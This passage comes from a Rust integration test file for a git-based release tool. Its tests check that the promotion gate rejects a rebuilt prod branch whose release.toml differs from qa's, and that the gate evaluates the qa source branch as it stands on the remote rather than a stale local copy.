    world.git(&world.path(""), &["clone", "-q", "-b", "promote/prod", path(&repos.release_remote), path(&elsewhere)]);
    change(&elsewhere);
    world.git(&elsewhere, &["add", "-A"]);
    world.git(&elsewhere, &["commit", "-q", "-m", "Promote qa → prod: 1.0.0 (v1.0.0-rc.1)"]);
    world.git(&elsewhere, &["push", "-q", "origin", "promote/prod"]);
    world.git(&repos.release, &["fetch", "-q", "origin"]);
    world.release(&repos.release, &["gate", "--target", "prod", "--source", "promote/prod"])
}

/// Found by a later independent pass: promote/prod holding a release file of someone's own (a
/// pin of their branch, say) was said to carry qa's release file, and passed the promotion path.
#[test]
fn a_rebuilt_branch_with_a_release_file_other_than_the_sources_is_refused() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    edit_prod_by_hand(&world, release);
    world.release_with(release, &["promote", "qa", "prod", "--rebuild"], &[("GITHUB_TOKEN", TOKEN)]).expect_status(0);
    tamper_with_rebuilt(&world, &repos, |elsewhere| {
        let file = std::fs::read_to_string(elsewhere.join("release.toml")).expect("the release file");
        std::fs::write(elsewhere.join("release.toml"), file + "# one more line\n").expect("writes");
    })
    .expect_status(1)
    .expect_stdout("FAIL  promotion-path")
    .expect_stdout("promote/prod's release.toml is not the one environment/qa holds")
    .expect_stdout("hint: rebuild it: git release promote qa prod --rebuild");
}

/// Found by the same pass: with the local qa branch left behind after someone else pushed it,
/// `gate` judged the local head, while `promote` and `prepare` take the remote's.
#[test]
fn the_gate_judges_the_source_branch_as_the_remote_has_it() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    world.release(release, &["gate", "--target", "prod"]).expect_status(0);
    let elsewhere = world.path("elsewhere");
    world.git(&world.path(""), &["clone", "-q", "-b", "environment/qa", path(&repos.release_remote), path(&elsewhere)]);
    world.git(&elsewhere, &["commit", "-q", "--allow-empty", "-m", "A newer head"]);
    world.git(&elsewhere, &["push", "-q", "origin", "environment/qa"]);
    let pushed = world.git(&elsewhere, &["rev-parse", "HEAD"]).trim().to_owned();
    // Found by a third pass: without a fetch here, the gate judged the last fetched head; it
    // fetches the source branch itself, as it fetches the target.
    let gate = world.release(release, &["gate", "--target", "prod", "--json"]);
    gate.expect_status(0);
    assert_eq!(gate.json()["head"], pushed.as_str(), "{gate}");
    let offline = world.release(release, &["gate", "--target", "prod", "--json", "--offline"]);
    assert_eq!(offline.json()["head"], pushed.as_str(), "as last fetched: {offline}");
}
